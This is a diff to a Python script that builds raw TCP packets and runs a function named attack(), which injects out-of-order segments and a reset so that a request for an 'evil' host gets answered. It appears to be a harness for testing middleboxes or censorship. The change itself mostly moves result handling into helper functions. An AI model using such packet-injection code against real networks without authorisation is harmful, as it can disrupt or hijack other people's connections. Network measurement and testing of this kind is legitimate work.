@@ -22,7 +22,7 @@ import ssl
 import sys
 
 sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
-from rawtcp import ACK, FIN, PSH, RST, Raw  # noqa: E402
+from rawtcp import ACK, FIN, PSH, RST, Raw, answer, tries  # noqa: E402
 
 src, dst, mode, good, evil = sys.argv[1:6]
 t = Raw(src, dst, 80 if mode == "http" else 443, random.randint(42000, 60000))
@@ -72,16 +72,9 @@ def attack():
     t.send(X2 + 1 + len(REQ1), 0, RST)  # 4
     t.send(X1 + 1, C1 + 1, ACK | PSH, REQ2)  # 5: in order after 4, no wait
     got = t.until(lambda p: p["flags"] & (FIN | RST) or (b"hello" in p["data"] if mode == "http" else p["data"]))
-    if any(p["flags"] & RST for p in got):
-        return "error reset"
-    if mode == "tls":
+    if mode == "tls" and not any(p["flags"] & RST for p in got):
         return "answered %s" % evil if any(p["data"] for p in got) else "error no answer"
-    text = b"".join(p["data"] for p in got).decode(errors="replace").strip()
-    return text.splitlines()[-1] if text else "error no answer"
+    return answer(got)
 
 
-for _ in range(3):  # a minute's turn twice in three tries takes minutes
-    out = attack()
-    if out is not None:
-        break
-print(out if out is not None else "error the cookie changed each time")
+print(tries(attack))
